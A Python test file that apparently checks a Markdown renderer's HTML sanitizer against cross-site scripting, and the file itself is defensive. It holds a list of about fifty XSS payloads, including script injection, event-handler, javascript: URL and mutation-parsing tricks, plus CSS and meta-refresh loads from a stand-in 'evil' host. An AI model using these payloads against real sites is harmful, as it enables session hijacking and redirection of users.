"""Raw HTML in a text can say things; it cannot do things."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pressrun.sources.markdown import render_markdown

_ALLOWED = """
alt aria-label cite class colspan datetime dir href id lang open reversed role rowspan scope span src start style
title type value width height
"""
# Of formulas. What they may say reaches nothing: https://www.w3.org/TR/mathml-core/#global-attributes
_OF_FORMULAS = """
display mathvariant stretchy fence form separator largeop movablelimits symmetric minsize maxsize lspace rspace accent
accentunder linethickness width height depth voffset mathcolor displaystyle scriptlevel
"""
ALLOWED_ATTRIBUTES = frozenset((_ALLOWED + _OF_FORMULAS).split())
_FORBIDDEN = """
script style iframe object embed form input button textarea select link meta base svg video audio frame
frameset applet template noscript portal dialog source track marquee
maction mglyph annotation annotation-xml semantics
"""
FORBIDDEN = frozenset(_FORBIDDEN.split())
ALIGNMENT = re.compile(r"text-align:(left|right|center|justify|start|end);?")
VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "<style>@import 'http://evil'; body{background:url(http://evil)}</style>",
    "<div style='background:url(http://evil)'>x</div>",
    "<td style='text-align:left;background:url(http://evil)'>x",
    "<table><tr><td style='text-align:expression(alert(1))'>x</table>",
    "<link rel=stylesheet href=http://evil>",
    "<meta http-equiv=refresh content='0;url=http://evil'>",
    "<base href=http://evil>",
    "<form action=http://evil><input name=a><button>go</button></form>",
    "<video src=http://evil poster=http://evil><source src=http://evil></video>",
    "<img srcset='http://evil 2x' src='data:image/png;base64,AAAA'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<body background=http://evil onload=alert(1)>",
    "<table background=http://evil><tr><td>x</table>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "```<script>\nx\n```",
    '```"onclick=alert(1)\nx\n```',
    "<details ontoggle=alert(1) open>x</details>",
    "<p onclick\x0c=alert(1)>x",
    "</main></body><script>alert(1)</script>",
    "<img alt='\"><script>alert(1)</script>' src=http://evil/>",
    '!["><script>alert(1)</script>](http://evil "><script>alert(1)</script>")',
    "[^a]\n\n[^a]: <script>alert(1)</script>",
]


class _Finder(HTMLParser):
    """An independent reader of the output: names what must not be there."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN:
            self.found.append(tag)
        for name, value in attrs:
            address = "".join((value or "").split()).lower()
            if name not in ALLOWED_ATTRIBUTES:
                self.found.append(f"{tag} {name}")
            if name in {"href", "cite"} and not address.startswith(("http:", "https:", "mailto:", "tel:", "#")):
                self.found.append(f"{tag} {name}={value}")
            if name == "src" and not address.startswith("data:image/"):
                self.found.append(f"{tag} {name}={value}")
            if name == "style" and not ALIGNMENT.fullmatch(address):
                self.found.append(f"{tag} {name}={value}")


def dangers(text: str) -> list[str]:
    finder = _Finder()
    finder.feed(render_markdown(text)["html"])
    finder.close()
    return finder.found


def test_the_finder_finds():
    finder = _Finder()
    finder.feed("<script></script><a href=javascript:x onclick=y><td style='background:url(x)'><img src=http://x>")
    assert len(finder.found) == 5


@pytest.mark.parametrize("vector", VECTORS)
def test_a_known_attack_loses_its_power(vector):
    assert dangers(vector) == []
    assert dangers(f"Text {vector} text\n\n- {vector}\n\n> {vector}\n\n| {vector} |\n|---|\n| {vector} |") == []


@settings(max_examples=int(1.5 * settings.default.max_examples), suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.one_of(st.sampled_from(VECTORS), st.text(max_size=20), st.sampled_from(list("<>\"'`[]()!*_\n&;=/ "))),
        max_size=12,
    )
)
def test_no_mixture_of_attacks_gets_through(parts):
    assert dangers("".join(parts)) == []


def test_what_only_says_something_is_kept():
    html = render_markdown("Press <kbd>Esc</kbd>, H<sub>2</sub>O, <mark>new</mark>, <ruby>川<rt>かわ</rt></ruby>")[
        "html"
    ]
    for kept in ("<kbd>Esc</kbd>", "<sub>2</sub>", "<mark>new</mark>", '<rt><span lang="ja">かわ</span></rt>'):
        assert kept in html


@pytest.mark.parametrize("many", ["65534", "101", "00000000065534", "0" * 5000 + "1000"])
def test_a_cell_cannot_span_thousands_of_columns(many):
    html = render_markdown(f"<table><tr><td colspan={many} rowspan=3>x</table>")["html"]
    assert "colspan" not in html
    assert 'rowspan="3"' in html
